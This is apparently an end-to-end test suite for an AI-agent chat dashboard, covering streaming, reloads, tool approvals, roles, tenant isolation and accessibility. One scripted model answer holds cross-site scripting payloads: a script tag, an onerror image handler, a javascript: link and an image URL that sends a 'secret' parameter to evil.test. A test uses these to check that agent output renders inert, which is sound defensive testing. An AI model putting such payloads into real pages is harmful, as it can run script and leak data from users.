import { type ScriptedAnswer, type ScriptedModel, startScriptedModel } from '@freehold/testkit'
import type { Page } from '@playwright/test'
import { afterAll, beforeAll, beforeEach, describe, test } from 'vitest'
import { choose, press, reach, write } from './by-keyboard.fixture.ts'
import { expect, expectAccessible, hasBrowser, shareDashboard } from './dashboard.fixture.ts'

const slowText = 'This answer takes its time, so that a person can reload the page in the middle of it.'
const longText = Array.from({ length: 400 }, (_, index) => `Paragraph ${index + 1}.`).join('\n\n')
const sum: ScriptedAnswer = { text: 'It is **5**.', chunkSize: 4 }
const hostileText = [
  'Look: <script>window.pwned = 1</script><img src="http://evil.test/a.png" onerror="window.pwned = 1">',
  '![a chart](http://evil.test/b.png?secret=1) and [the docs](https://docs.example/page) and [run](javascript:alert(1))',
].join('\n\n')
const plain: Record<string, ScriptedAnswer> = {
  hostile: { text: hostileText, chunkSize: 9 },
  'at length': { text: longText, chunkSize: 40, chunkDelayMs: 5 },
}

describe.skipIf(!hasBrowser())('the chat', () => {
  const env: Record<string, string> = {}
  let model: ScriptedModel
  let held: PromiseWithResolvers<void>

  function answer(message: string, results: number): ScriptedAnswer {
    const isFirst = results === 0
    if (message.startsWith('add')) return isFirst ? callOf('2+3', 'Let me calculate.') : sum
    if (message.startsWith('pay')) return isFirst ? callOf('1000-1') : { text: 'That is settled.' }
    return (
      plain[message] ?? { text: message === 'in halves' ? longText : slowText, chunkSize: 6, halfway: held.promise }
    )
  }

  beforeAll(async () => {
    model = await startScriptedModel(({ messages }) => {
      const asked = messages.findLastIndex(({ role }) => role === 'user')
      const results = messages.slice(asked).filter(({ role }) => role === 'tool').length
      return answer(messages[asked]?.content ?? '', results)
    })
    Object.assign(env, { OPENAI_API_KEY: 'test', OPENAI_BASE_URL: model.url })
  })
  afterAll(async () => {
    held?.resolve()
    await model?.[Symbol.asyncDispose]()
  })
  beforeEach(() => {
    held = Promise.withResolvers<void>()
  })
  const dashboard = shareDashboard(env)
  beforeAll(async () => {
    const rule = { require: 'always' as const, allowSelf: false, approvers: { roles: ['admin' as const] } }
    const client = await dashboard.api()
    await client.createAgent({
      body: { name: 'payer', tools: ['calculate'], approvals: { tools: { calculate: rule } } },
    })
    await client.createAgent({ body: { name: 'broken', model: 'mistral/model' } })
  })

  async function ask(page: Page, text: string, agent = 'assistant'): Promise<void> {
    await page.goto(`/t/acme/chat?agent=${agent}`)
    await write(page.getByLabel('Message'), text)
    await page.keyboard.press('Enter')
    await expect(page).toHaveURL(/\/chat\/[0-9a-f-]{36}$/)
  }

  test('an answer comes with the call of the tool that it took, and the conversation is found again', async () => {
    const { page } = await dashboard.browseAs({ roles: ['operator'] })
    await page.goto('/t/acme/chat')
    await write(page.getByLabel('Message'), 'add')
    await page.keyboard.press('Shift+Enter')
    await page.keyboard.type('2 and 3')
    await expect(page.getByLabel('Message')).toHaveValue('add\n2 and 3')
    await page.keyboard.press('Enter')
    await expect(page.getByText('Let me calculate.')).toBeVisible()
    await expect(page.locator('strong', { hasText: '5' })).toBeVisible()

    const call = page.locator('details', { hasText: 'calculate' })
    await expect(call.locator('summary')).toContainText(/Done: calculate\d.* m?s$/)
    await press(call.locator('summary'))
    await expect(page.getByRole('region', { name: 'Input of calculate' })).toContainText('"expression": "2+3"')
    await expect(page.getByRole('region', { name: 'Output of calculate' })).toContainText('5')
    await expect(page.getByRole('link', { name: 'View run' })).toHaveAttribute(
      'href',
      /\/t\/acme\/runs\/[0-9a-f-]{36}$/,
    )

    const list = page.getByRole('navigation', { name: 'Conversations' })
    await press(list.getByRole('link', { name: 'New conversation' }))
    await expect(page.getByText('Talk to assistant')).toBeVisible()
    await press(list.getByRole('link', { name: 'add 2 and 3' }))
    await expect(page.getByRole('heading', { name: 'add 2 and 3' })).toBeVisible()
    await expect(page.locator('strong', { hasText: '5' })).toHaveCount(1)
  })

  test('what is typed after the click on another conversation goes there, however slow the network is', async () => {
    const { page } = await dashboard.browseAs({ roles: ['operator'] })
    await ask(page, 'add for the old one')
    await expect(page.locator('strong', { hasText: '5' })).toBeVisible()
    // As who comes by the address of one, and has seen no agents yet.
    await page.reload()
    await expect(page.locator('strong', { hasText: '5' })).toBeVisible()
    const list = page.getByRole('navigation', { name: 'Conversations' })
    const message = page.getByLabel('Message')

    let network = await cut(page)
    await press(list.getByRole('link', { name: 'New conversation' }))
    await page.keyboard.type('add for the new one')
    await page.keyboard.press('Enter')
    await network.restore()
    await expect(page.getByRole('heading', { name: 'add for the new one' })).toBeVisible()
    await expect(page.locator('strong', { hasText: '5' })).toHaveCount(1)
    await expect(list.getByRole('link', { name: 'add for the new one' })).toBeVisible()

    network = await cut(page)
    await press(list.getByRole('link', { name: 'add for the old one' }))
    await page.keyboard.type('add again')
    // What is sent too early goes once its conversation is there.
    await page.keyboard.press('Enter')
    await expect(message).toHaveValue('add again')
    await network.restore()
    await expect(page.getByRole('log').getByText('You: add for the old one')).toHaveCount(1)
    await expect(page.getByRole('log').getByText('You: add')).toHaveCount(2)
    await expect(message).toHaveValue('')
    await expect(page.locator('strong', { hasText: '5' })).toHaveCount(2)

    await page.keyboard.press('Control+K')
    await page.getByRole('dialog', { name: 'Go to' }).waitFor()
    await page.keyboard.type('New conversation')
    await page.keyboard.press('Enter')
    await page.keyboard.type('add from the palette')
    await page.keyboard.press('Enter')
    await expect(page.getByRole('heading', { name: 'add from the palette' })).toBeVisible()
    await press(list.getByRole('link', { name: 'add for the new one' }))
    await expect(page.getByRole('log').getByText('You:')).toHaveCount(1)
    await page.goBack()
    await expect(page.getByRole('heading', { name: 'add from the palette' })).toBeVisible()
    await expect(page.locator('strong', { hasText: '5' })).toHaveCount(1)
  })

  test('a reload, or another browser, in the middle of an answer shows the whole answer, once', async () => {
    const { page } = await dashboard.browseAs({ roles: ['operator'] })
    await ask(page, 'slowly')
    const beginning = page.getByText(slowText.slice(0, 30))
    await expect(beginning).toBeVisible()
    await expect(page.getByRole('button', { name: 'Stop' })).toBeVisible()

    await page.reload()
    await expect(beginning).toBeVisible()
    const { page: other } = await dashboard.browseAsOwner()
    await other.goto(page.url())
    await expect(other.getByText(slowText.slice(0, 30))).toBeVisible()
    for (const each of [page, other]) await expect(each.getByText(slowText)).toHaveCount(0)
    held.resolve()
    for (const each of [page, other]) {
      await expect(each.getByText(slowText, { exact: true })).toHaveCount(1)
      await expect(each.getByRole('log').getByText('You: slowly')).toHaveCount(1)
      await expect(each.getByRole('button', { name: 'Copy answer' })).toBeVisible()
    }
    await page.reload()
    await expect(page.getByText(slowText, { exact: true })).toHaveCount(1)
    await expect(page.getByText(slowText.slice(0, 30))).toHaveCount(1)

    // What is asked in one browser comes up in the other.
    await write(other.getByLabel('Message'), 'add them')
    await other.keyboard.press('Enter')
    await expect(page.locator('strong', { hasText: '5' })).toBeVisible()
    await expect(page.getByText(slowText, { exact: true })).toHaveCount(1)
  })

  test('an approval that is given in a second browser continues the first; a refusal tells the agent why', async () => {
    const { page } = await dashboard.browseAs({ roles: ['operator'] })
    const { page: admin } = await dashboard.browseAs({ roles: ['admin'] })
    await ask(page, 'pay the first', 'payer')
    await expect(page.getByText('Waiting for approval. Its policy leaves this to the role admin.')).toBeVisible()
    await expect(page.getByRole('region', { name: 'Arguments' })).toContainText('1000-1')
    await expect(page.getByRole('button', { name: 'Approve' })).toHaveCount(0)
    await admin.goto(page.url())
    await press(admin.getByRole('button', { name: 'Approve' }))
    for (const each of [page, admin]) {
      await expect(each.getByText('That is settled.')).toHaveCount(1)
      await expect(each.getByText('Approved')).toBeVisible()
    }

    await ask(page, 'pay the second', 'payer')
    await expect(page.getByText('Waiting for approval')).toBeVisible()
    await admin.goto(page.url())
    await press(admin.getByRole('button', { name: 'Refuse…' }))
    await write(admin.getByLabel('Note'), 'Not this month')
    await press(admin.getByRole('dialog').getByRole('button', { name: 'Refuse', exact: true }))
    await expect(page.getByText('Refused: Not this month')).toBeVisible()
    await expect(page.getByText('That is settled.')).toBeVisible()
    await expect(page.locator('details', { hasText: 'calculate' })).toContainText('Failed')
  })

  test.each([1280, 360])('the view follows a fast answer, and stays for who scrolled up, at %s px', async (width) => {
    const { page } = await dashboard.browseAs({ roles: ['operator'] }, { viewport: { width, height: 740 } })
    const view = page.getByRole('region', { name: 'Conversation', exact: true })
    const top = () => view.evaluate((element) => element.scrollTop)
    const expectAtEnd = () => expect.poll(() => view.evaluate(pxToEnd)).toBeLessThan(2)
    const toTheNewest = page.getByRole('button', { name: 'To the newest' })
    await ask(page, 'at length')
    await expect(page.getByRole('button', { name: 'Copy answer' })).toHaveCount(1)
    await expectAtEnd()
    expect(await top()).toBeGreaterThan(9_000)
    await expect(toTheNewest).toHaveCount(0)

    // Who sends goes to the end, from wherever.
    await reach(view)
    await page.keyboard.press('Home')
    await expect.poll(top).toBe(0)
    await expect(toTheNewest).toBeVisible()
    await write(page.getByLabel('Message'), 'in halves')
    await page.keyboard.press('Enter')
    await expect(page.getByText('Paragraph 150.', { exact: true })).toHaveCount(2)
    await expectAtEnd()
    await expect(toTheNewest).toHaveCount(0)

    // Who scrolls up while it grows is left there.
    await reach(view)
    await page.keyboard.press('PageUp')
    await expect(toTheNewest).toBeVisible()
    await expect.poll(() => view.evaluate(pxToEnd)).toBeGreaterThan(300)
    const before = await view.evaluate(restingTop)
    held.resolve()
    await expect(page.getByRole('button', { name: 'Copy answer' })).toHaveCount(2)
    expect(await top()).toBe(before)
    await expectAccessible(page)
    expect(await page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true)
    await press(toTheNewest)
    await expectAtEnd()
    await expect(toTheNewest).toHaveCount(0)
    await reach(page.getByLabel('Message'))
  })

  test('Escape stops the run', async () => {
    const { page } = await dashboard.browseAs({ roles: ['operator'] })
    await ask(page, 'slowly, but not to the end')
    await expect(page.getByText(slowText.slice(0, 30))).toBeVisible()
    await page.keyboard.press('Escape')
    await expect(page.getByText('Stopped.')).toBeVisible()
    const { items } = await (await dashboard.api()).listRuns({ query: { limit: 1 } })
    expect(items).toMatchObject([{ status: 'cancelled', message: 'slowly, but not to the end' }])
    await expect(page.getByRole('button', { name: 'Send' })).toBeVisible()
  })

  test('a new conversation is with the agent that the same person talked to last, or else with the assistant', async () => {
    await (await dashboard.api()).createAgent({ body: { name: 'aardvark', tools: [] } })
    const { page } = await dashboard.browseAs({ roles: ['operator'] })
    await page.goto('/t/acme/chat')
    await expect(page.getByText('Talk to assistant')).toBeVisible()
    await ask(page, 'pay and wait', 'payer')
    await expect(page.getByText('Waiting for approval')).toBeVisible()
    await press(page.getByRole('link', { name: 'New conversation' }))
    await expect(page.getByText('Talk to payer')).toBeVisible()
    await page.reload()
    await expect(page.getByText('Talk to payer')).toBeVisible()
    const { page: other } = await dashboard.browseAs({ roles: ['operator'] })
    await other.goto('/t/acme/chat')
    await expect(other.getByText('Talk to assistant')).toBeVisible()
  })

  test('a run that fails says why and can be tried again', async () => {
    const { page } = await dashboard.browseAs({ roles: ['operator'] })
    await ask(page, 'hello', 'broken')
    const failure = page.getByRole('alert').filter({ hasText: 'This run failed' })
    await expect(failure).toContainText('No key for provider "mistral"')
    await press(failure.getByRole('button', { name: 'Try again' }))
    await expect(failure).toContainText('No key for provider "mistral"')
    await page.reload()
    await expect(failure).toBeVisible()
    const { items } = await (await dashboard.api()).listRuns({ query: { limit: 1 } })
    const [run] = items
    const { items: events } = await (await dashboard.api()).listRunEvents({ params: { id: run?.id ?? '' }, query: {} })
    expect(events.filter(({ type }) => type === 'run.failed')).toHaveLength(2)
  })

  test('somebody who may only look reads a conversation and finds nothing to send with', async () => {
    const { page: asker } = await dashboard.browseAs({ roles: ['operator'] })
    await ask(asker, 'add for the viewer')
    await expect(asker.locator('strong', { hasText: '5' })).toBeVisible()
    const { page } = await dashboard.browseAs({ roles: ['viewer'] })
    await page.goto(asker.url())
    await expect(page.locator('strong', { hasText: '5' })).toBeVisible()
    await expect(page.getByText('You can read conversations here')).toBeVisible()
    await page.goto('/t/acme/chat')
    await expect(page.getByText('Talk to assistant')).toBeVisible()
    await expect(page.getByRole('textbox')).toHaveCount(0)
    await expect(page.getByRole('button', { name: /Send|What/ })).toHaveCount(0)
  })

  test('what an agent writes runs nothing, loads nothing and leads nowhere by itself', async () => {
    const { page } = await dashboard.browseAs({ roles: ['operator'] })
    const outside: string[] = []
    const complaints: string[] = []
    page.on('request', (request) => {
      if (!request.url().startsWith(dashboard.url)) outside.push(request.url())
    })
    page.on('console', (message) => {
      if (/content security policy/i.test(message.text())) complaints.push(message.text())
    })
    await ask(page, 'hostile')
    await expect(page.getByRole('button', { name: 'Copy answer' })).toBeVisible()
    const log = page.getByRole('log')
    await expect(log).toContainText('<script>window.pwned = 1</script>')
    await expect(log.locator('img, script, a')).toHaveCount(0)
    await expect(log.getByRole('button', { name: 'run' })).toHaveCount(0)
    await press(log.getByRole('button', { name: 'the docs' }))
    await expect(page.getByRole('alertdialog')).toContainText('https://docs.example/page')
    await press(page.getByRole('button', { name: 'Cancel' }))
    await press(log.getByRole('button', { name: 'Image: a chart' }))
    await expect(page.getByRole('alertdialog')).toContainText('http://evil.test/b.png?secret=1')
    expect(await page.evaluate('"pwned" in window')).toBe(false)
    expect(outside).toEqual([])
    expect(complaints).toEqual([])
  })

  test("a conversation of another tenant's is not found", async () => {
    const { page } = await dashboard.browseAsOwner()
    await ask(page, 'add for acme')
    await page.goto(page.url().replace('/t/acme/', '/t/globex/'))
    await expect(page.getByRole('alert').filter({ hasText: 'There is no thread' })).toBeVisible()
    await expect(page.getByText('add for acme')).toHaveCount(0)
  })

  test.each([1280, 360])('nothing stands in the way of a screen reader or overflows at %s px', async (width) => {
    const { page } = await dashboard.browseAs({ roles: ['operator'] }, { viewport: { width, height: 740 } })
    await page.goto('/t/acme/chat')
    await expect(page.getByText('Talk to assistant')).toBeVisible()
    await expectAccessible(page)
    await ask(page, 'add 1')
    await expect(page.locator('strong', { hasText: '5' })).toBeVisible()
    await press(page.locator('summary'))
    await expectAccessible(page)
    if (width < 500) {
      await press(page.getByRole('button', { name: 'Conversations' }))
      await expect(page.getByRole('dialog').getByRole('link', { name: 'add 1' })).toBeVisible()
      await expectAccessible(page)
      await press(page.getByRole('dialog').getByRole('link', { name: 'New conversation' }))
      await expect(page.getByText('Talk to assistant')).toBeVisible()
      await choose(page.getByRole('main').getByLabel('Agent'), 'payer')
      await expect(page.getByRole('main').getByLabel('Agent')).toBeFocused()
      await expect(page.getByText('Talk to payer')).toBeVisible()
    }
    expect(await page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true)
  })
})

function pxToEnd({ scrollHeight, scrollTop, clientHeight }: Element): number {
  return scrollHeight - scrollTop - clientHeight
}

/** Where it is once a key has scrolled it all the way, which takes several frames. */
async function restingTop(element: Element): Promise<number> {
  for (let last = -1, frames = 0; frames < 10; frames = element.scrollTop === last ? frames + 1 : 0) {
    last = element.scrollTop
    await new Promise((resolve) => requestAnimationFrame(resolve))
  }
  return element.scrollTop
}

/** Lets no request through until it is restored. */
async function cut(page: Page): Promise<{ restore(): Promise<void> }> {
  const restored = Promise.withResolvers<void>()
  await page.route('**/*', async (route) => {
    await restored.promise
    await route.continue()
  })
  return {
    async restore() {
      restored.resolve()
      await page.unrouteAll({ behavior: 'wait' })
    },
  }
}

function callOf(expression: string, text = ''): ScriptedAnswer {
  return { text, toolCalls: [{ id: `call_${expression}`, name: 'calculate', input: { expression } }] }
}
